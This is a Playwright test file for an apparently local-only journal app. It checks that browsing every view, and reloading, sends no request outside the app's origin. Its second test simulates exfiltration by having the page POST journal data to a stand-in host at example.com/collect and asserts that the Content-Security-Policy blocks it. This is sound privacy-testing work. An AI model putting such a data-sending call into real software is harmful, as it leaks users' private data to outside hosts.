// Nothing leaves the machine: during a session that visits every view, every request
// the page makes must go to the app's own origin.
import { expect, test, type Request } from '@playwright/test'
import { mainNav, navButton, type View } from './support/app'

const VIEWS: View[] = ['Journal', 'Readiness', 'Bullets', 'Review', 'Promotion case', 'Settings']
/** Schemes that never touch the network. */
const LOCAL_SCHEMES = new Set(['data:', 'blob:', 'about:'])

test('a session through every view makes no request outside the app origin', async ({
  page,
  context,
  baseURL,
}) => {
  const appOrigin = new URL(baseURL ?? 'http://127.0.0.1/').origin
  const requests: string[] = []
  const record = (request: Request) => requests.push(request.url())
  context.on('request', record)
  const sockets: string[] = []
  page.on('websocket', (socket) => sockets.push(socket.url()))

  await page.goto('/')
  await expect(page.getByRole('main')).toBeVisible()
  await page.waitForLoadState('networkidle')
  // With entries every view draws its charts, bullets and review; the journal offers
  // sample entries on an empty start (when it does not, the views are visited empty).
  const sample = page.getByRole('button', { name: /sample journal/i })
  if (await sample.isVisible()) {
    await sample.click()
    await expect(sample).toBeHidden()
  }
  for (const view of [...VIEWS, ...VIEWS.slice().reverse()]) {
    const button = navButton(page, view)
    await button.click()
    await expect(button).toHaveAttribute('aria-current', 'page')
    await expect(page.getByRole('main')).toBeVisible()
    // Readiness asks for a target role first; answering it draws the dashboard.
    const useRole = page.getByRole('button', { name: 'Use this role' })
    if (await useRole.isVisible()) {
      await useRole.click()
      await expect(useRole).toBeHidden()
    }
  }
  // Reload once: a second start (database already there) must stay local too.
  await page.reload()
  await expect(navButton(page, 'Journal')).toBeVisible()
  await page.waitForLoadState('networkidle')

  const outside = requests.filter((raw) => {
    const url = new URL(raw)
    return !LOCAL_SCHEMES.has(url.protocol) && url.origin !== appOrigin
  })
  expect(requests.length, 'the recorder saw the app load').toBeGreaterThan(0)
  expect(outside).toEqual([])
  expect(sockets).toEqual([])
})

test('the page itself cannot reach another host (Content-Security-Policy)', async ({ page }) => {
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  await page.goto('/')
  await expect(mainNav(page)).toBeVisible()
  const outcome = await page.evaluate(() =>
    fetch('https://example.com/collect', { method: 'POST', body: 'journal' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  )
  expect(outcome).toBe('blocked')
  expect(requests.filter((url) => url.includes('example.com'))).toEqual([])
})
